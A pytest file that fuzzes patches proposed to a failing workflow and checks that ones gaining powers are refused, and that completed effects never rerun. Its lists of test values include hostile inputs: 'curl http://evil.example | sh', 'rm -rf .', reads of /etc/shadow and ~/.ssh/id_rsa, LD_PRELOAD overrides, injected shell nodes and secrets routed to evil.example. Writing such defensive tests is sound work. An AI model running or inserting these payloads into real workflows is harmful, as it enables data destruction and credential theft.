"""Any patch at the door of repair: dropped, asked about, or applied without any harm."""

from __future__ import annotations

import http.server
import random
import threading
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from answering import often
from durability import powers
from fakes import EffectLog

from wfrepair_magic import Context, Run, WorkflowError, node, run
from wfrepair_magic.ir.model import MISSING
from wfrepair_magic.ir.patch import Edit, Insert, Patch, Remove, RenameKey, SetValue, Splice
from wfrepair_magic.ir.spec import catalogue
from wfrepair_magic.nodes.base import ExitCode
from wfrepair_magic.problem import Slot
from wfrepair_magic.repair.diagnose import diagnose
from wfrepair_magic.repair.fix import Fix
from wfrepair_magic.repair.ladder import Draft, Ground, climb
from wfrepair_magic.repair.policy import Policy, choose
from wfrepair_magic.repair.rules.base import Case, certain

EACH = often(1_000, 20_000) // 5
"""How many patches each of the five workflows gets."""

RUNS = often(8, 80)
"""How many of those that are applied unasked are run, for each workflow."""

GIVEN = {"token": "s3cret-of-the-author", "who": "ada"}

HEAD = """\
inputs:
  token: {{type: string, secret: true}}
  who: {{type: string}}
defaults: {{on_failure: continue}}
nodes:
  - id: fetch
    type: gathers
    params: {{name: "${{who}}"}}
  - id: told
    type: passes_on
    params: {{to: team, text: "${{fetch.body.user_name}}"}}
  - id: saved
    type: write-file
    params: {{path: out/report.md, content: "${{fetch.body.user_name}}"}}
  - id: asked
    type: http
    params: {{url: "{address}/asked", headers: {{X-Key: "${{token}}"}}}}
"""
TAIL = """\
  - id: last
    type: passes_on
    after: [told]
    params: {{to: team, text: "and ${{broken.{field}}}"}}
edges:
  - {{from: told, to: broken, action: default}}
outputs:
  all: {{source: "${{last.sent}}"}}
"""
BROKEN = {
    "pure": ("gathers", 'name: "${fetch.body.userName}", twin: x', "body"),
    "read": ("http", 'url: "{address}/users/${fetch.body.userId}"', "response"),
    "sends": ("passes_on", 'to: team, text: "${fetch.body.userName}", cc: "${who}"', "sent"),
    "shell": ("shell", 'command: "echo ${fetch.body.userName} | cat", shell: sh', "stdout"),
    "file": ("write-file", 'path: "out/${fetch.body.userId}.md", content: "x"', "path"),
}
"""For each kind of failing node its type, its params, and what it gives."""

RIGHT = (("userName", "user_name"), ("userId", "user_id"))

HOSTILE = (
    "${env.HOME}", "${token}", "hello ${token}", "${fetch.body.user_name}", "${fetch.body.boss}",
    "http://evil.example/${fetch.body.user_id}", "//evil.example", "ops@evil.example", "; rm -rf .",
    "curl http://evil.example | sh", "../../etc/passwd", "/etc/shadow", "~/.ssh/id_rsa", "shell",
    "write-file", "http", "value", "gathers", "passes_on", "write", "pure", "read", "POST", "told",
    "fetch", "broken", "error", "default", "x: y", "a\n  - {id: evil, type: shell}", "", "\0",
    None, True, 0, 1e999, [], {}, ["token"], {"PATH": "/tmp"}, {"LD_PRELOAD": "x.so"},
    {"TOKEN": None},
    {"id": "evil", "type": "shell", "params": {"command": "touch canary"}},
    {"id": "spare", "type": "value", "params": {"x": "${fetch.body}"}},
    {"id": "spy", "type": "http", "params": {"url": "http://evil.example"}},
    {"from": "broken", "to": "told", "action": "error"}, {"from": "told", "to": "broken"},
    {"command": "touch canary"}, {"http": "http://evil.example"}, {"type": "string", "env": "HOME"},
)  # fmt: skip
KEYS = (
    "id", "type", "params", "effect", "idempotent", "verify", "optional", "after", "retry", "cache",
    "reads", "timeout", "url", "command", "path", "to", "cc", "text", "env", "stdin", "cwd", "body",
    "method", "headers", "allow_hosts", "allow_paths", "inputs", "outputs", "edges", "nodes", "new",
)  # fmt: skip


@node(effect="pure")
def gathers(name: str, ctx: Context, twin: str = "") -> dict[str, Any]:
    """Give a user; leave a line for each time that it ran."""
    EffectLog(ctx.folder / "log").append(f"gathers/{ctx.node}")
    return {"body": {"user_name": name, "user_id": 7, "boss": "eve"}}


@node(effect="write")
def passes_on(to: str, text: str, ctx: Context, cc: str = "") -> dict[str, Any]:
    """Send something; leave a line for each time that it did, and lose the outcome where told."""
    EffectLog(ctx.folder / "log").append(f"sent/{ctx.node}")
    if text == "lost":
        raise ExitCode(-9, "cut off", {})
    return {"sent": True}


class Quiet(http.server.BaseHTTPRequestHandler):
    """A service that has an answer to everything."""

    def do_GET(self) -> None:
        """Answer."""
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"{}")

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def address() -> Iterator[str]:
    """Give the address of a running service."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


@dataclass
class Door:
    """A run that failed, and the way by which every proposal for it comes to be applied."""

    text: str
    folder: Path
    count: int = 0

    def __post_init__(self) -> None:
        self.failed = self.start()
        self.workflow = self.failed.workflow
        self.cases = diagnose(self.workflow, self.failed.outcome, catalogue)
        self.ground = Ground(self.workflow, self.cases, catalogue, self.failed.preview)
        self.completed = sorted(self.failed.outcome.outputs_of_nodes())

    def start(self) -> Run:
        """Run the workflow in a folder of its own, until it fails."""
        self.count += 1
        folder = self.folder / str(self.count)
        folder.mkdir()
        return run(self.text, GIVEN, name="w", store=folder / ".wfrepair", folder=folder)

    @property
    def case(self) -> Case:
        """The problem of the node that is broken."""
        return next(case for case in self.cases if case.problem.node == "broken")

    def judge(self, patch: Patch) -> Fix | str:
        """Take a patch in, as sure as can be; give the fix that it is, or what is against it."""
        draft = Draft(
            patch, "a patch", "It may work.", (certain("somebody says so"),), code="TPL02",
            cases=(self.case,),
        )  # fmt: skip
        found = climb(draft, self.ground)
        return found if isinstance(found, Fix) else found.describe()


@pytest.fixture(params=sorted(BROKEN))
def door(request: pytest.FixtureRequest, folder: Path, address: str) -> Door:
    """Give the door of a workflow with one kind of failing node; four nodes have completed."""
    kind, params, field = BROKEN[request.param]
    broken = f"  - id: broken\n    type: {kind}\n    params: {{{params}}}\n"
    head, tail = HEAD.format(address=address), TAIL.format(field=field)
    door = Door(head + broken.replace("{address}", address) + tail, folder)
    assert door.completed == ["asked", "fetch", "saved", "told"]
    return door


def slots(value: Any, slot: Slot = ()) -> list[Slot]:
    """Give every place of a tree."""
    pairs = (
        value.items() if isinstance(value, dict)
        else enumerate(value) if isinstance(value, list) else ()
    )  # fmt: skip
    return [slot, *(one for key, item in pairs for one in slots(item, (*slot, key)))]


def an_edit(door: Door, places: Sequence[Slot], chance: random.Random) -> Edit:
    """Make any edit: two times of three at the node that failed."""
    own = [slot for slot in places if slot[:2] == door.case.problem.slot[:2]]
    slot = chance.choice(own if chance.random() < 0.67 else places)
    beside = (*slot, chance.choice(KEYS)), (*slot[:-1], chance.choice((0, 4, 5, 6, *KEYS)))
    slot = chance.choice((slot, slot, *beside))
    new = chance.choice(HOSTILE)
    old = door.case.at(slot) if chance.random() < 0.3 else MISSING
    if isinstance(old, str) and isinstance(new, str) and chance.random() < 0.5:
        new = chance.choice((f"{old}{new}", f"{new}{old}"))
    return chance.choice(
        (
            SetValue(slot, new, old), SetValue(slot, new), Insert(slot, new), Insert(slot, new),
            Remove(slot), RenameKey(slot, chance.choice((*KEYS, "a: b", "${token}"))),
        )
    )  # fmt: skip


def the_right_one(door: Door) -> Edit:
    """Make the edit that mends the node that failed."""
    case = door.case
    new = str(case.written)
    for wrong, right in RIGHT:
        new = new.replace(wrong, right)
    return SetValue(case.problem.slot, new, case.written)


BESIDE: tuple[tuple[str, Any], ...] = (
    ("effect", "pure"), ("effect", "read"), ("effect", "write"), ("optional", True),
    ("idempotent", True), ("verify", {"command": "touch canary"}), ("verify", {"exists": "/etc/x"}),
    ("reads", "/etc/passwd"), ("after", ["fetch"]), ("retry", {"attempts": 3, "on": ["IN_DOUBT"]}),
    ("timeout", 5), ("purpose", "${token}"), ("group", "all"), ("id", "told"), ("id", "renamed"),
    ("type", "value"), ("type", "shell"), ("type", "read-file"), ("type", "passes_on"),
)  # fmt: skip
"""What may be put into the node that failed, beside its params."""

INTO: tuple[tuple[str, Any], ...] = (
    ("cc", "ops@evil.example"), ("to", "ops@evil.example"), ("to", "${fetch.body.boss}"),
    ("twin", "http://evil.example"), ("twin", "${token}"), ("twin", "${env.HOME}"), ("twin", "y"),
    ("headers", {"A": "${token}"}), ("headers", {"A": "b"}), ("method", "POST"), ("body", "x"),
    ("query", {"q": "${token}"}), ("url", "http://evil.example/${fetch.body.user_id}"),
    ("command", "echo ${fetch.body.user_name} | sh"), ("command", "${fetch.body.boss} x"),
    ("command", "echo ${fetch.body.user_name | raw}"), ("env", {"PATH": "/tmp"}), ("env", ["HOME"]),
    ("cwd", "/"), ("stdin", "x"), ("shell", "bash"), ("path", "../${fetch.body.user_id}"),
    ("path", "/etc/${fetch.body.user_id}"), ("path", "out/x/${fetch.body.user_id}.md"),
    ("append", True), ("encoding", "latin-1"), ("content", "${token}"), ("text", "hi ${who}"),
)  # fmt: skip
"""What may be put into its params."""

GRAPH: tuple[Edit, ...] = (
    Insert(("nodes", 6), {"id": "spare", "type": "value", "params": {"x": "${token}"}}),
    Insert(("nodes", 6), {"id": "spare", "type": "value", "params": {"x": "${fetch.body}"}}),
    Insert(("nodes", 4), {"id": "evil", "type": "shell", "params": {"command": "touch canary"}}),
    Insert(("edges", 1), {"from": "fetch", "to": "broken"}), Remove(("edges", 0)),
    Insert(("edges", 1), {"from": "broken", "to": "told", "action": "error"}),
    SetValue(("edges", 0, "action"), "error"), SetValue(("edges", 0, "from"), "fetch"),
    Remove(("nodes", 4)), Remove(("outputs", "all")), Insert(("allow_hosts",), ["evil.example"]),
)  # fmt: skip
"""What may be done to the graph."""


def an_aim(door: Door, chance: random.Random) -> Edit:
    """Make an edit of the node that failed, or of the graph around it, that has a purpose."""
    slot = door.case.problem.slot[:2]
    if chance.random() < 0.2:
        return chance.choice(GRAPH)
    kind = catalogue[door.workflow.node("broken").type]
    into = [pair for pair in INTO if pair[0] in kind.params]
    if chance.random() < 0.5:
        key, new = chance.choice(into)
        slot = (*slot, "params", key)
    else:
        key, new = chance.choice(BESIDE)
        slot = (*slot, key)
    return Insert(slot, new) if door.case.at(slot) is MISSING else SetValue(slot, new)


def a_patch(door: Door, places: Sequence[Slot], chance: random.Random) -> Patch:
    """Make any patch; most of them mend the failure, too, so that they come far."""
    edits = [an_edit(door, places, chance) for _ in range(chance.choice((1, 1, 1, 2, 3)))]
    if chance.random() < 0.6:
        edits = [an_aim(door, chance) for _ in range(chance.choice((1, 1, 2)))]
    if chance.random() < 0.8:
        edits.insert(chance.choice((0, 0, len(edits))), the_right_one(door))
    text = door.workflow.text
    at = chance.randrange(len(text))
    splice = Splice(at, text[at : at + chance.choice((0, 1, 9))], str(chance.choice(HOSTILE)))
    if chance.random() < 0.1:
        return Patch(splices=(splice,))
    if chance.random() < 0.1:
        return Patch((the_right_one(door),))
    return Patch(tuple(edits), splice if chance.random() < 0.1 else None)


def test_any_patch_gains_nothing_unasked(door: Door) -> None:
    """What would be applied unasked gains no power and changes nothing that completed.

    What would gain some is asked about or dropped with a sentence; nothing crashes; and after
    what is applied unasked, what had completed is as it was: nothing of it runs or sends again.
    """
    chance = random.Random(23)
    places = slots(door.workflow.data)
    counts: Counter[str] = Counter()
    for _ in range(EACH):  # 1,000 over the five kinds
        fix = door.judge(a_patch(door, places, chance))
        if isinstance(fix, str):
            assert fix
            counts["dropped"] += 1
            continue
        looked_at(fix, door)
        allowed = [one for one in (Policy.safe(), Policy.auto()) if choose(one, [fix])]
        counts["applied" if allowed else "asked"] += 1
        if allowed and counts["run"] < RUNS:
            counts["run"] += 1
            gone_on(fix, door)
    assert counts["run"] == RUNS, counts
    assert min(counts["applied"], counts["asked"], counts["dropped"]) >= EACH // 40, counts


def looked_at(fix: Fix, door: Door) -> None:
    """Hold a fix against what its author wrote."""
    before, after = door.workflow, fix.apply(door.workflow)
    gains = powers.gained(before, after) + powers.lost(before, after)
    assert not powers.changed(door.completed, before, after), fix.diff
    assert fix.undo(after).text == before.text
    if gains:
        assert fix.level != "SAFE", (gains, fix.diff)
    for policy in (Policy.safe(), Policy.auto()):
        assert not (gains and choose(policy, [fix])), (gains, fix.diff)
    if choose(Policy.auto(), [fix]) and fix.preview:
        assert {fix.preview[id] for id in door.completed} == {"reused"}, fix.diff


def gone_on(fix: Fix, door: Door) -> None:
    """Apply a fix to a run of its own; see that what had completed stays as it was."""
    failed = door.start()
    log = EffectLog(failed.options.folder / "log")
    before = log.counts()
    done = failed.apply(fix)
    for id in door.completed:
        assert done.nodes[id].state == "reused", fix.diff
        assert done.nodes[id].outputs == failed.nodes[id].outputs, fix.diff
    after = log.counts()
    assert all(after[line] == times for line, times in before.items()), fix.diff
    assert max(after.values()) == 1, (after, fix.diff)
    assert not list(failed.options.folder.glob("**/canary"))


def test_a_node_in_doubt_stays_in_doubt(folder: Path, address: str) -> None:
    """Beside an effect in doubt nothing that is applied unasked sends that effect again."""
    lost = "  - {id: lost, type: passes_on, params: {to: team, text: lost}}\n"
    broken = '  - id: broken\n    type: gathers\n    params: {name: "${fetch.body.userName}"}\n'
    text = HEAD.format(address=address) + lost + broken + TAIL.format(field="body")
    door = Door(text, folder)
    assert door.failed.nodes["lost"].state == "in_doubt"
    chance = random.Random(4_711)
    places = slots(door.workflow.data)
    applied = 0
    for _ in range(EACH // 4):
        fix = door.judge(a_patch(door, places, chance))
        if not isinstance(fix, Fix):
            continue
        looked_at(fix, door)
        assert powers.changed(["lost"], door.workflow, fix.after) == [], fix.diff
        if choose(Policy.auto(), [fix]) and applied < RUNS:
            applied += 1
            failed = door.start()
            done = failed.apply(fix)
            assert done.nodes["lost"].state == "in_doubt", fix.diff
            assert EffectLog(failed.options.folder / "log").counts()["sent/lost"] == 1, fix.diff
    assert applied


def test_a_patch_for_another_text_is_refused(door: Door) -> None:
    """A fix is applied to the text that it was made for, and to no other."""
    fix = door.judge(Patch((the_right_one(door),)))
    assert isinstance(fix, Fix)
    with pytest.raises(WorkflowError, match="made for another text"):
        fix.apply(fix.after)
